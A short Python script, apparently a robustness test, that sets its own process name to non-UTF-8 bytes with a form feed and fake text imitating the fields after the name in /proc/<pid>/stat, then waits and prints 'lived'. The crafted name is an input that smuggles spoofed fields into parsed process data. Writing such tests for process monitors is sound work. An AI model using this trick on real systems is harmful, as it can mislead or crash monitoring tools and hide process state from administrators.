# The attack: a process name that is not UTF-8, holds a form feed, and looks like the fields after a name in /proc.
import ctypes
ctypes.CDLL(None).prctl(15, b"\xff\x0c) T 1 1", 0, 0, 0)
input()
print("lived")
